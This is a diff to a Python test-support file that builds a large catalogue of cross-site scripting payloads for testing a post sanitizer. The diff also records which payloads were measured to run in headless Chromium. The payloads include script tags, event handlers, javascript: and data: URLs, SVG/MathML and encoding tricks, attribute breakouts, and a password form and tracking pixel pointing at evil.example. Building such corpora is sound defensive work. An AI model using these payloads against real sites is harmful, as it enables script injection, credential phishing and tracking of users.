@@ -31,8 +31,8 @@ class Payload:
 _ENTRY: list[Payload] = []
 
 
-def _add(category: str, name: str, text: str, live: bool = False) -> None:
-    _ENTRY.append(Payload(f"{category}:{name}", category, text, live))
+def _add(category: str, name: str, text: str) -> None:
+    _ENTRY.append(Payload(f"{category}:{name}", category, text))
 
 
 def _entities_dec(s: str) -> str:
@@ -52,78 +52,77 @@ def _percent(s: str) -> str:
 
 
 # --- script tags --------------------------------------------------------------------------------
-_add("script", "plain", f"<script>{JS}</script>", live=True)
-_add("script", "upper", f"<SCRIPT>{JS}</SCRIPT>", live=True)
-_add("script", "mixed", f"<ScRiPt>{JS}</sCrIpT>", live=True)
-_add("script", "type", f'<script type="text/javascript">{JS}</script>', live=True)
-_add("script", "module", f'<script type="module">{JS}</script>', live=True)
-_add("script", "src-data", f'<script src="data:text/javascript,{JS}"></script>', live=True)
+_add("script", "plain", f"<script>{JS}</script>")
+_add("script", "upper", f"<SCRIPT>{JS}</SCRIPT>")
+_add("script", "mixed", f"<ScRiPt>{JS}</sCrIpT>")
+_add("script", "type", f'<script type="text/javascript">{JS}</script>')
+_add("script", "module", f'<script type="module">{JS}</script>')
+_add("script", "src-data", f'<script src="data:text/javascript,{JS}"></script>')
 _add("script", "src-remote", '<script src="https://evil.example/x.js"></script>')
 _add("script", "src-relative", '<script src="/x.js"></script>')
 _add("script", "unclosed", f"<script>{JS}")
-_add("script", "slash-attr", f"<script/x>{JS}</script>", live=True)
-_add("script", "newline-tag", f"<script\n>{JS}</script\n>", live=True)
-_add("script", "in-p", f"<p>hello<script>{JS}</script>world</p>", live=True)
+_add("script", "slash-attr", f"<script/x>{JS}</script>")
+_add("script", "newline-tag", f"<script\n>{JS}</script\n>")
+_add("script", "in-p", f"<p>hello<script>{JS}</script>world</p>")
 _add("script", "nested-split", f"<scr<script>ipt>{JS}</scr</script>ipt>")
-_add("script", "double-open", f"<<script>{JS}//<</script>", live=True)
-_add("script", "comment-inside", f"<script><!--\n{JS}\n--></script>", live=True)
-_add("script", "string-close", f"<script>var a='</script><script>{JS}</script>", live=True)
-_add("script", "defer", f'<script defer>{JS}</script>', live=True)
-_add("script", "async-data", f'<script async src="data:,{JS}"></script>', live=True)
-_add("script", "charset", f'<script charset="utf-7">{JS}</script>', live=True)
+_add("script", "double-open", f"<<script>{JS}//<</script>")
+_add("script", "comment-inside", f"<script><!--\n{JS}\n--></script>")
+_add("script", "string-close", f"<script>var a='</script><script>{JS}</script>")
+_add("script", "defer", f'<script defer>{JS}</script>')
+_add("script", "async-data", f'<script async src="data:,{JS}"></script>')
+_add("script", "charset", f'<script charset="utf-7">{JS}</script>')
 _add("script", "template-wrap", f"<template><script>{JS}</script></template>")
 _add("script", "noscript-wrap", f"<noscript><p title=\"</noscript><script>{JS}</script>\">")
-_add("script", "textarea-break", f"<textarea></textarea><script>{JS}</script>", live=True)
-_add("script", "title-break", f"</title><script>{JS}</script>", live=True)
-_add("script", "style-break", f"</style><script>{JS}</script>", live=True)
+_add("script", "textarea-break", f"<textarea></textarea><script>{JS}</script>")
+_add("script", "title-break", f"</title><script>{JS}</script>")
+_add("script", "style-break", f"</style><script>{JS}</script>")
 
 # --- event handlers -----------------------------------------------------------------------------
 _HANDLERS = [
-    ("img-onerror", f"<img src=x onerror={JS}>", True),
-    ("img-onerror-quoted", f'<img src="x" onerror="{JS}">', True),
-    ("img-onerror-single", f"<img src='x' onerror='{JS}'>", True),
-    ("img-onerror-backtick", f"<img src=x onerror=`{JS}`>", True),
-    ("img-onerror-slash", f"<img/src=x/onerror={JS}>", True),
-    ("img-onerror-upper", f"<IMG SRC=x ONERROR={JS}>", True),
-    ("img-onerror-newline", f"<img src=x\nonerror\n=\n{JS}>", True),
-    ("img-onload-data", f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{JS}">',
-     False),
-    ("img-onerror-tab", f"<img src=x\tonerror={JS}>", True),
-    ("img-onerror-entity", f'<img src=x onerror="&#97;lert(1)">', True),
-    ("svg-onload", f"<svg onload={JS}>", True),
-    ("svg-onload-slash", f"<svg/onload={JS}>", True),
-    ("body-onload", f"<body onload={JS}>", False),
-    ("body-onpageshow", f"<body onpageshow={JS}>", False),
-    ("input-autofocus", f"<input autofocus onfocus={JS}>", True),
-    ("select-autofocus", f"<select autofocus onfocus={JS}></select>", True),
-    ("textarea-autofocus", f"<textarea autofocus onfocus={JS}></textarea>", True),
-    ("details-ontoggle", f"<details open ontoggle={JS}>", True),
-    ("video-onerror", f"<video src=x onerror={JS}></video>", True),
-    ("video-source-onerror", f"<video><source onerror={JS}></video>", True),
-    ("audio-onerror", f"<audio src=x onerror={JS}></audio>", True),
-    ("iframe-onload", f"<iframe onload={JS}></iframe>", True),
-    ("object-onerror", f"<object data=x onerror={JS}></object>", False),
-    ("marquee-onstart", f"<marquee onstart={JS}>x</marquee>", False),
-    ("div-onmouseover", f"<div onmouseover={JS}>hover me</div>", True),
-    ("a-onmouseover", f'<a href="https://x.example/" onmouseover={JS}>link</a>', True),
-    ("p-onclick", f"<p onclick={JS}>click</p>", True),
-    ("span-onpointerenter", f'<span class="mention" onpointerenter={JS}>m</span>', True),
-    ("button-onfocus", f"<button autofocus onfocus={JS}>b</button>", True),
-    ("form-onsubmit", f"<form onsubmit={JS}><input type=submit></form>", False),
-    ("keygen", f"<keygen autofocus onfocus={JS}>", True),
-    ("style-onload", f"<style onload={JS}></style>", True),
-    ("link-onload", f'<link rel=stylesheet href="data:text/css," onload={JS}>', True),
+    ("img-onerror", f"<img src=x onerror={JS}>"),
+    ("img-onerror-quoted", f'<img src="x" onerror="{JS}">'),
+    ("img-onerror-single", f"<img src='x' onerror='{JS}'>"),
+    ("img-onerror-backtick", f"<img src=x onerror=`{JS}`>"),
+    ("img-onerror-slash", f"<img/src=x/onerror={JS}>"),
+    ("img-onerror-upper", f"<IMG SRC=x ONERROR={JS}>"),
+    ("img-onerror-newline", f"<img src=x\nonerror\n=\n{JS}>"),
+    ("img-onload-data", f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{JS}">'),
+    ("img-onerror-tab", f"<img src=x\tonerror={JS}>"),
+    ("img-onerror-entity", '<img src=x onerror="&#97;lert(1)">'),
+    ("svg-onload", f"<svg onload={JS}>"),
+    ("svg-onload-slash", f"<svg/onload={JS}>"),
+    ("body-onload", f"<body onload={JS}>"),
+    ("body-onpageshow", f"<body onpageshow={JS}>"),
+    ("input-autofocus", f"<input autofocus onfocus={JS}>"),
+    ("select-autofocus", f"<select autofocus onfocus={JS}></select>"),
+    ("textarea-autofocus", f"<textarea autofocus onfocus={JS}></textarea>"),
+    ("details-ontoggle", f"<details open ontoggle={JS}>"),
+    ("video-onerror", f"<video src=x onerror={JS}></video>"),
+    ("video-source-onerror", f"<video><source onerror={JS}></video>"),
+    ("audio-onerror", f"<audio src=x onerror={JS}></audio>"),
+    ("iframe-onload", f"<iframe onload={JS}></iframe>"),
+    ("object-onerror", f"<object data=x onerror={JS}></object>"),
+    ("marquee-onstart", f"<marquee onstart={JS}>x</marquee>"),
+    ("div-onmouseover", f"<div onmouseover={JS}>hover me</div>"),
+    ("a-onmouseover", f'<a href="https://x.example/" onmouseover={JS}>link</a>'),
+    ("p-onclick", f"<p onclick={JS}>click</p>"),
+    ("span-onpointerenter", f'<span class="mention" onpointerenter={JS}>m</span>'),
+    ("button-onfocus", f"<button autofocus onfocus={JS}>b</button>"),
+    ("form-onsubmit", f"<form onsubmit={JS}><input type=submit></form>"),
+    ("keygen", f"<keygen autofocus onfocus={JS}>"),
+    ("style-onload", f"<style onload={JS}></style>"),
+    ("link-onload", f'<link rel=stylesheet href="data:text/css," onload={JS}>'),
     ("animation", f"<style>@keyframes x{{}}</style><p style=animation-name:x "
-                  f"onanimationstart={JS}>a</p>", True),
-    ("transition-end", f"<p style=transition:color 1ms ontransitionend={JS}>t</p>", False),
-    ("custom-element", f"<x-foo onfocus={JS} tabindex=1 autofocus>x</x-foo>", True),
-    ("onwheel", f"<div onwheel={JS}>w</div>", True),
-    ("oncopy", f"<div oncopy={JS}>c</div>", True),
-    ("onbeforetoggle", f"<div popover id=p onbeforetoggle={JS}>p</div>", False),
-    ("image-tag", f"<image src=x onerror={JS}>", True),
+                  f"onanimationstart={JS}>a</p>"),
+    ("transition-end", f"<p style=transition:color 1ms ontransitionend={JS}>t</p>"),
+    ("custom-element", f"<x-foo onfocus={JS} tabindex=1 autofocus>x</x-foo>"),
+    ("onwheel", f"<div onwheel={JS}>w</div>"),
+    ("oncopy", f"<div oncopy={JS}>c</div>"),
+    ("onbeforetoggle", f"<div popover id=p onbeforetoggle={JS}>p</div>"),
+    ("image-tag", f"<image src=x onerror={JS}>"),
 ]
-for name, text, live in _HANDLERS:
-    _add("handler", name, text, live)
+for name, text in _HANDLERS:
+    _add("handler", name, text)
 
 # --- dangerous URLs, as bare strings (the URL fields) and inside elements (the content) ---------
 _SCHEMES = {
@@ -180,57 +179,53 @@ _add("a-href", "formaction",
      f'<form><button formaction="javascript:{JS}">go</button></form>')
 _add("a-href", "form-action", f'<form action="javascript:{JS}"><input type=submit></form>')
 _add("a-href", "area", f'<map name=m><area href="javascript:{JS}" shape=default></map>')
-_add("frame", "iframe-js", f'<iframe src="javascript:{JS}"></iframe>', live=True)
-_add("frame", "iframe-js-upper", f'<IFRAME SRC="JAVASCRIPT:{JS}"></IFRAME>', live=True)
+_add("frame", "iframe-js", f'<iframe src="javascript:{JS}"></iframe>')
+_add("frame", "iframe-js-upper", f'<IFRAME SRC="JAVASCRIPT:{JS}"></IFRAME>')
 _add("frame", "iframe-js-entity",
-     f'<iframe src="{_entities_hex("javascript:")}{JS}"></iframe>', live=True)
+     f'<iframe src="{_entities_hex("javascript:")}{JS}"></iframe>')
 _add("frame", "iframe-data", f'<iframe src="data:text/html,<script>{JS}</script>"></iframe>')
-_add("frame", "iframe-srcdoc", f'<iframe srcdoc="<script>{JS}</script>"></iframe>', live=True)
+_add("frame", "iframe-srcdoc", f'<iframe srcdoc="<script>{JS}</script>"></iframe>')
 _add("frame", "iframe-srcdoc-entity",
-     f'<iframe srcdoc="&lt;img src=x onerror={JS}&gt;"></iframe>', live=True)
-_add("frame", "object-data", f'<object data="javascript:{JS}"></object>', live=True)
-_add("frame", "embed-src", f'<embed src="javascript:{JS}">', live=True)
+     f'<iframe srcdoc="&lt;img src=x onerror={JS}&gt;"></iframe>')
+_add("frame", "object-data", f'<object data="javascript:{JS}"></object>')
+_add("frame", "embed-src", f'<embed src="javascript:{JS}">')
 _add("frame", "embed-svg", f'<embed src="data:image/svg+xml,<svg onload={JS}>">')
 _add("frame", "frameset", f"<frameset onload={JS}>")
 _add("frame", "base-href", '<base href="javascript:/">')
-_add("frame", "meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-     live=True)
-_add("frame", "meta-refresh-js", f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
-     live=True)
+_add("frame", "meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">')
+_add("frame", "meta-refresh-js", f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">')
 _add("frame", "portal", '<portal src="https://evil.example/"></portal>')
 _add("frame", "link-import", '<link rel=import href="https://evil.example/x">')
 
 # --- SVG and MathML -----------------------------------------------------------------------------
-_add("svg", "script", f"<svg><script>{JS}</script></svg>", live=True)
-_add("svg", "script-href", '<svg><script href="data:,alert(1)"></script></svg>', live=True)
+_add("svg", "script", f"<svg><script>{JS}</script></svg>")
+_add("svg", "script-href", '<svg><script href="data:,alert(1)"></script></svg>')
 _add("svg", "animate-href",
      f'<svg><a><animate attributeName=href values=javascript:{JS} /><text y=20>x</text></a></svg>')
-_add("svg", "set-onbegin", f"<svg><set onbegin={JS} attributeName=x dur=1s /></svg>", live=True)
-_add("svg", "animate-onbegin", f"<svg><animate onbegin={JS} attributeName=x dur=1s /></svg>",
-     live=True)
+_add("svg", "set-onbegin", f"<svg><set onbegin={JS} attributeName=x dur=1s /></svg>")
+_add("svg", "animate-onbegin", f"<svg><animate onbegin={JS} attributeName=x dur=1s /></svg>")
 _add("svg", "foreignobject",
-     f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>", live=True)
+     f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>")
 _add("svg", "use-data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>')
-_add("svg", "image-onerror", f"<svg><image href=x onerror={JS} /></svg>", live=True)
+_add("svg", "image-onerror", f"<svg><image href=x onerror={JS} /></svg>")
 _add("svg", "style-import", "<svg><style>@import 'https://evil.example/x.css';</style></svg>")
 _add("svg", "title-break", f"<svg><title><img src=x onerror={JS}></title></svg>")
-_add("svg", "desc-break", f"<svg><desc><![CDATA[</desc><script>{JS}</script>]]></desc></svg>",
-     live=True)
-_add("svg", "handler-entity", '<svg onload="&#x61;lert(1)">', live=True)
-_add("svg", "uppercase", f"<SVG ONLOAD={JS}>", live=True)
-_add("svg", "nested", f"<svg><svg onload={JS}></svg></svg>", live=True)
+_add("svg", "desc-break", f"<svg><desc><![CDATA[</desc><script>{JS}</script>]]></desc></svg>")
+_add("svg", "handler-entity", '<svg onload="&#x61;lert(1)">')
+_add("svg", "uppercase", f"<SVG ONLOAD={JS}>")
+_add("svg", "nested", f"<svg><svg onload={JS}></svg></svg>")
 _add("svg", "feimage", '<svg><filter><feImage href="javascript:alert(1)"/></filter></svg>')
 _add("mathml", "href", f'<math href="javascript:{JS}">click</math>')
 _add("mathml", "maction", f'<math><maction actiontype="statusline" xlink:href="javascript:{JS}">'
                           "x</maction></math>")
-_add("mathml", "mtext-img", f"<math><mtext><img src=x onerror={JS}></mtext></math>", live=True)
+_add("mathml", "mtext-img", f"<math><mtext><img src=x onerror={JS}></mtext></math>")
 _add("mathml", "style-break",
      f"<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table>"
-     "</mtext></math>", live=True)
+     "</mtext></math>")
 _add("mathml", "mi-xlink", f'<math><mi xlink:href="javascript:{JS}">x</mi></math>')
 _add("mathml", "annotation",
      f'<math><annotation-xml encoding="text/html"><img src=x onerror={JS}></annotation-xml>'
-     "</math>", live=True)
+     "</math>")
 
 # --- CSS -----------------------------------------------------------------------------------------
 _add("css", "style-attr", '<p style="color:red;font-size:99px">big</p>')
@@ -253,46 +248,42 @@ _add("css", "font-face", "<style>@font-face{font-family:x;src:url(https://evil.e
 # --- malformed and nested tags -------------------------------------------------------------------
 _add("malformed", "unclosed-img", f"<img src=x onerror={JS}")
 _add("malformed", "unclosed-quote", f'<img src="x onerror={JS}>')
-_add("malformed", "double-lt", f"<<img src=x onerror={JS}>>", live=True)
-_add("malformed", "extra-quote", f'<img """><script>{JS}</script>">', live=True)
+_add("malformed", "double-lt", f"<<img src=x onerror={JS}>>")
+_add("malformed", "extra-quote", f'<img """><script>{JS}</script>">')
 _add("malformed", "nested-a", f'<a href="https://x.example/"><a href="javascript:{JS}">in</a></a>')
 _add("malformed", "p-in-a", f'<a href="https://x.example/"><p onclick={JS}>x</p></a>')
-_add("malformed", "table-break", f"<table><td><img src=x onerror={JS}></td></table>", live=True)
-_add("malformed", "select-break", f"<select><img src=x onerror={JS}></select>", live=True)
-_add("malformed", "form-nesting", f"<form><form><input autofocus onfocus={JS}></form></form>",
-     live=True)
+_add("malformed", "table-break", f"<table><td><img src=x onerror={JS}></td></table>")
+_add("malformed", "select-break", f"<select><img src=x onerror={JS}></select>")
+_add("malformed", "form-nesting", f"<form><form><input autofocus onfocus={JS}></form></form>")
 _add("malformed", "null-in-tag", f"<scr\x00ipt>{JS}</scr\x00ipt>")
 _add("malformed", "null-in-attr", f"<img src=x on\x00error={JS}>")
 _add("malformed", "utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
 _add("malformed", "half-width", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e")
-_add("malformed", "deep-nesting", "<span>" * 300 + f"<img src=x onerror={JS}>" + "</span>" * 300,
-     live=True)
+_add("malformed", "deep-nesting", "<span>" * 300 + f"<img src=x onerror={JS}>" + "</span>" * 300)
 _add("malformed", "attribute-overflow", '<p title="' + "a" * 5000 + f'" onclick={JS}>x</p>')
 _add("malformed", "plaintext", f"<plaintext><script>{JS}</script>")
-_add("malformed", "xmp", f"<xmp></xmp><img src=x onerror={JS}>", live=True)
-_add("malformed", "noembed", f'<noembed><img title="</noembed><img src=x onerror={JS}>">',
-     live=True)
+_add("malformed", "xmp", f"<xmp></xmp><img src=x onerror={JS}>")
+_add("malformed", "noembed", f'<noembed><img title="</noembed><img src=x onerror={JS}>">')
 _add("malformed", "option-break", f'<select><option><style></option></select>'
-                                  f'<img src=x onerror={JS}></style>', live=True)
+                                  f'<img src=x onerror={JS}></style>')
 _add("malformed", "listing", f"<listing>&lt;img src=x onerror={JS}&gt;</listing>")
 _add("malformed", "closing-p-attr", f"</p onclick={JS}>")
-_add("malformed", "bad-close", f"</div><img src=x onerror={JS}>", live=True)
-_add("malformed", "html-body", f"<html><head></head><body><img src=x onerror={JS}></body></html>",
-     live=True)
+_add("malformed", "bad-close", f"</div><img src=x onerror={JS}>")
+_add("malformed", "html-body", f"<html><head></head><body><img src=x onerror={JS}></body></html>")
 
 # --- comments and CDATA --------------------------------------------------------------------------
 _add("comment", "hidden", f"<!--<script>{JS}</script>-->")
-_add("comment", "break-out", f"<!-- --><script>{JS}</script><!-- -->", live=True)
-_add("comment", "bang", f"<!--!><script>{JS}</script>-->", live=True)
-_add("comment", "dash-gt", f"<!-->--><img src=x onerror={JS}>", live=True)
-_add("comment", "bogus", f"<!x><img src=x onerror={JS}>", live=True)
+_add("comment", "break-out", f"<!-- --><script>{JS}</script><!-- -->")
+_add("comment", "bang", f"<!--!><script>{JS}</script>-->")
+_add("comment", "dash-gt", f"<!-->--><img src=x onerror={JS}>")
+_add("comment", "bogus", f"<!x><img src=x onerror={JS}>")
 _add("comment", "conditional", f"<!--[if IE]><script>{JS}</script><![endif]-->")
-_add("comment", "processing", f"<?xml version=1?><img src=x onerror={JS}>", live=True)
-_add("comment", "cdata", f"<![CDATA[<script>{JS}</script>]]>", live=True)
-_add("comment", "cdata-svg", f"<svg><![CDATA[><img src=x onerror={JS}>]]></svg>", live=True)
+_add("comment", "processing", f"<?xml version=1?><img src=x onerror={JS}>")
+_add("comment", "cdata", f"<![CDATA[<script>{JS}</script>]]>")
+_add("comment", "cdata-svg", f"<svg><![CDATA[><img src=x onerror={JS}>]]></svg>")
 _add("comment", "unclosed", f"<!--<img src=x onerror={JS}>")
-_add("comment", "in-attr", f'<p title="<!--"><img src=x onerror={JS}>-->', live=True)
-_add("comment", "doctype", f"<!DOCTYPE html><img src=x onerror={JS}>", live=True)
+_add("comment", "in-attr", f'<p title="<!--"><img src=x onerror={JS}>-->')
+_add("comment", "doctype", f"<!DOCTYPE html><img src=x onerror={JS}>")
 
 # --- entity- and percent-encoded markup -----------------------------------------------------------
 _add("encoded", "lt-gt", f"&lt;script&gt;{JS}&lt;/script&gt;")
@@ -303,28 +294,29 @@ _add("encoded", "no-semicolon", "&#60script&#62alert(1)&#60/script&#62")
 _add("encoded", "percent", quote(f"<script>{JS}</script>"))
 _add("encoded", "double-percent", quote(quote(f"<script>{JS}</script>")))
 _add("encoded", "percent-img", _percent(f"<img src=x onerror={JS}>"))
-_add("encoded", "attr-entity-quote", f'<p title="&quot;&gt;&lt;script&gt;{JS}&lt;/script&gt;">t</p>')
+_add("encoded", "attr-entity-quote",
+     f'<p title="&quot;&gt;&lt;script&gt;{JS}&lt;/script&gt;">t</p>')
 _add("encoded", "named-entities", f"&LT;script&GT;{JS}&LT;/script&GT;")
 _add("encoded", "unicode-escape", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e")
-_add("encoded", "js-escape-handler", '<img src=x onerror="\\u0061lert(1)">', live=True)
+_add("encoded", "js-escape-handler", '<img src=x onerror="\\u0061lert(1)">')
 _add("encoded", "base64-text", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")
 _add("encoded", "overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE")
 _add("encoded", "entity-in-tagname", f"<&#115;cript>{JS}</&#115;cript>")
 _add("encoded", "entity-in-handler-name", f"<img src=x &#111;nerror={JS}>")
 
 # --- attribute and template breaking (a name or handle pasted into an attribute) ------------------
-_add("break", "double-quote", f'"><script>{JS}</script>', live=True)
-_add("break", "single-quote", f"'><script>{JS}</script>", live=True)
+_add("break", "double-quote", f'"><script>{JS}</script>')
+_add("break", "single-quote", f"'><script>{JS}</script>")
 _add("break", "quote-handler", f'" onmouseover="{JS}" x="')
 _add("break", "single-handler", f"' onmouseover='{JS}' x='")
 _add("break", "unquoted-handler", f" onmouseover={JS} ")
-_add("break", "close-bdi", f"</bdi><script>{JS}</script><bdi>", live=True)
-_add("break", "close-title", f"</title><img src=x onerror={JS}>", live=True)
-_add("break", "close-textarea", f"</textarea><img src=x onerror={JS}>", live=True)
-_add("break", "close-script", f"</script><script>{JS}</script>", live=True)
+_add("break", "close-bdi", f"</bdi><script>{JS}</script><bdi>")
+_add("break", "close-title", f"</title><img src=x onerror={JS}>")
+_add("break", "close-textarea", f"</textarea><img src=x onerror={JS}>")
+_add("break", "close-script", f"</script><script>{JS}</script>")
 _add("break", "jinja", "{{ config.items() }}{% raw %}x{% endraw %}")
 _add("break", "template-literal", "${alert(1)}")
-_add("break", "json-break", '"}]}</script><script>alert(1)</script>', live=True)
+_add("break", "json-break", '"}]}</script><script>alert(1)</script>')
 
 # --- right-to-left and zero-width tricks ----------------------------------------------------------
 _add("bidi", "rlo-name", "Alice\u202eecilA")
@@ -352,10 +344,10 @@ _add("bidi", "rtl-in-mention",
 
 # --- custom emoji ---------------------------------------------------------------------------------
 _add("emoji", "shortcode", ":blobcat: :verified:")
-_add("emoji", "shortcode-script", f":<script>{JS}</script>:", live=True)
-_add("emoji", "shortcode-img", f":x:<img src=x onerror={JS}>", live=True)
+_add("emoji", "shortcode-script", f":<script>{JS}</script>:")
+_add("emoji", "shortcode-img", f":x:<img src=x onerror={JS}>")
 _add("emoji", "emoji-img", '<img class="emoji" src="https://evil.example/e.png" alt=":blob:">')
-_add("emoji", "emoji-img-handler", f'<img class="emoji" src=x alt=":b:" onerror={JS}>', live=True)
+_add("emoji", "emoji-img-handler", f'<img class="emoji" src=x alt=":b:" onerror={JS}>')
 _add("emoji", "quote-shortcode", f'":" onmouseover="{JS}":')
 _add("emoji", "long-shortcode", ":" + "a" * 500 + ":")
 _add("emoji", "bidi-shortcode", ":blob\u202ecat:")
@@ -367,15 +359,14 @@ _add("element", "form-phish",
      '<form action="https://evil.example/login"><input name=password type=password>'
      "<input type=submit></form>")
 _add("element", "button", "<button>Delete blog</button>")
-_add("element", "input-image", f'<input type=image src=x onerror={JS}>', live=True)
+_add("element", "input-image", f'<input type=image src=x onerror={JS}>')
 _add("element", "dialog-open", "<dialog open>fake dialog</dialog>")
 _add("element", "img-tracker", '<img src="https://evil.example/pixel.gif">')
-_add("element", "img-srcset", f'<img srcset="x 1x" onerror={JS}>', live=True)
-_add("element", "picture", f"<picture><source srcset=x><img src=x onerror={JS}></picture>",
-     live=True)
+_add("element", "img-srcset", f'<img srcset="x 1x" onerror={JS}>')
+_add("element", "picture", f"<picture><source srcset=x><img src=x onerror={JS}></picture>")
 _add("element", "track", f"<video><track src=x onerror={JS}></video>")
 _add("element", "applet", '<applet code="x.class"></applet>')
-_add("element", "isindex", f'<isindex type=image src=x onerror={JS}>', live=True)
+_add("element", "isindex", f'<isindex type=image src=x onerror={JS}>')
 _add("element", "svg-a-target", '<a href="https://evil.example/" target="_top">top</a>')
 _add("element", "a-ping", '<a href="https://x.example/" ping="https://evil.example/">p</a>')
 _add("element", "a-download", '<a href="https://x.example/x.exe" download>d</a>')
@@ -383,11 +374,132 @@ _add("element", "id-clobber", '<p id="__proto__" name="location">clobber</p>')
 _add("element", "form-clobber", '<form name="getElementById"><img name="body"></form>')
 _add("element", "contenteditable", "<p contenteditable>edit me</p>")
 _add("element", "slot-shadow", f"<div><template shadowrootmode=open><img src=x onerror={JS}>"
-                               "</template></div>", live=True)
-_add("element", "meta-csp", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">")
+                               "</template></div>")
+_add("element", "meta-csp",
+     '<meta http-equiv="Content-Security-Policy" content="script-src *">')
 _add("element", "huge-text", "A" * 120_000)
 
-PAYLOADS: tuple[Payload, ...] = tuple(_ENTRY)
+# Measured: each of these, pasted raw into a built post page and loaded in headless Chromium 156,
+# ran script, opened a frame or navigated (tests/support/xss_check.py saw it). The others need a
+# click, target old browsers (vbscript:, expression()), are inert text, or are refused by
+# Chromium itself (javascript: in object and embed); the HTML check still catches their markup.
+_LIVE = frozenset({
+    "break:close-bdi",
+    "break:close-script",
+    "break:close-textarea",
+    "break:close-title",
+    "break:double-quote",
+    "break:json-break",
+    "break:single-quote",
+    "comment:bogus",
+    "comment:break-out",
+    "comment:dash-gt",
+    "comment:doctype",
+    "comment:in-attr",
+    "comment:processing",
+    "element:img-srcset",
+    "element:input-image",
+    "element:isindex",
+    "element:picture",
+    "element:slot-shadow",
+    "element:track",
+    "emoji:emoji-img-handler",
+    "emoji:shortcode-img",
+    "emoji:shortcode-script",
+    "encoded:js-escape-handler",
+    "frame:embed-svg",
+    "frame:iframe-data",
+    "frame:iframe-js",
+    "frame:iframe-js-entity",
+    "frame:iframe-js-upper",
+    "frame:iframe-srcdoc",
+    "frame:iframe-srcdoc-entity",
+    "frame:meta-refresh",
+    "handler:a-onmouseover",
+    "handler:animation",
+    "handler:audio-onerror",
+    "handler:body-onload",
+    "handler:body-onpageshow",
+    "handler:button-onfocus",
+    "handler:custom-element",
+    "handler:details-ontoggle",
+    "handler:div-onmouseover",
+    "handler:iframe-onload",
+    "handler:image-tag",
+    "handler:img-onerror",
+    "handler:img-onerror-backtick",
+    "handler:img-onerror-entity",
+    "handler:img-onerror-newline",
+    "handler:img-onerror-quoted",
+    "handler:img-onerror-single",
+    "handler:img-onerror-tab",
+    "handler:img-onerror-upper",
+    "handler:img-onload-data",
+    "handler:input-autofocus",
+    "handler:keygen",
+    "handler:link-onload",
+    "handler:object-onerror",
+    "handler:onbeforetoggle",
+    "handler:oncopy",
+    "handler:onwheel",
+    "handler:select-autofocus",
+    "handler:span-onpointerenter",
+    "handler:style-onload",
+    "handler:svg-onload",
+    "handler:svg-onload-slash",
+    "handler:textarea-autofocus",
+    "handler:video-onerror",
+    "handler:video-source-onerror",
+    "malformed:bad-close",
+    "malformed:deep-nesting",
+    "malformed:double-lt",
+    "malformed:extra-quote",
+    "malformed:form-nesting",
+    "malformed:html-body",
+    "malformed:noembed",
+    "malformed:select-break",
+    "malformed:table-break",
+    "malformed:xmp",
+    "mathml:annotation",
+    "mathml:mtext-img",
+    "script:async-data",
+    "script:charset",
+    "script:comment-inside",
+    "script:defer",
+    "script:double-open",
+    "script:in-p",
+    "script:mixed",
+    "script:module",
+    "script:newline-tag",
+    "script:noscript-wrap",
+    "script:plain",
+    "script:slash-attr",
+    "script:src-data",
+    "script:string-close",
+    "script:style-break",
+    "script:textarea-break",
+    "script:title-break",
+    "script:type",
+    "script:upper",
+    "svg:animate-onbegin",
+    "svg:foreignobject",
+    "svg:handler-entity",
+    "svg:image-onerror",
+    "svg:nested",
+    "svg:script",
+    "svg:script-href",
+    "svg:set-onbegin",
+    "svg:title-break",
+    "svg:uppercase",
+    "url:data-html",
+    "url:data-svg",
+    "url:data-upper",
+    "url:quote-break",
+})
+
+PAYLOADS: tuple[Payload, ...] = tuple(
+    Payload(p.name, p.category, p.text, p.name in _LIVE) for p in _ENTRY)
+assert _LIVE <= {p.name for p in PAYLOADS}, _LIVE - {p.name for p in PAYLOADS}
 
 assert len(PAYLOADS) >= 200, len(PAYLOADS)
 assert len({p.name for p in PAYLOADS}) == len(PAYLOADS), "payload names must be unique"
